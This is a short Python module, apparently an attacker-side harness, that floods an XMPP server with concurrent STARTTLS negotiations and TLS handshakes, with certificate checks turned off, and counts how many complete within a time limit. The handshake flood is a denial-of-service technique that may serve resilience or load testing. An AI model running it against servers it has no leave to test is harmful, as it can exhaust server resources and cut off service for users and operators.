"""Crowds of TLS handshakes. Standard library alone: it runs on an attacker."""

from __future__ import annotations

import socket
import ssl
import threading
import time

__all__ = ["handshakes"]


def handshakes(address: str, port: int, name: str, number: int, at_once: int, limit: float) -> int:
    """How many of `number` handshakes after STARTTLS are done within `limit` seconds, so many at once.

    `name` is the XMPP domain.
    """
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    deadline = time.monotonic() + limit
    begun, done = iter(range(number)), []

    def shake() -> None:
        for _ in begun:
            if (left := deadline - time.monotonic()) <= 0:
                return
            try:
                with socket.create_connection((address, port), left) as plain:
                    plain.settimeout(left)
                    ask_for_tls(plain, name)
                    with context.wrap_socket(plain, server_hostname=name):
                        done.append(1)
            except OSError:
                continue

    threads = [threading.Thread(target=shake) for _ in range(at_once)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return len(done)


def ask_for_tls(connection: socket.socket, name: str) -> None:
    """Ask for TLS (RFC 6120 section 5). Raises OSError."""
    header = f"<stream:stream to='{name}' version='1.0' xmlns='jabber:client'"
    connection.sendall(f"{header} xmlns:stream='http://etherx.jabber.org/streams'>".encode())
    connection.sendall(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
    said = b""
    while b"<proceed" not in said:
        more = connection.recv(4096)
        if not more:
            raise ConnectionResetError
        said += more
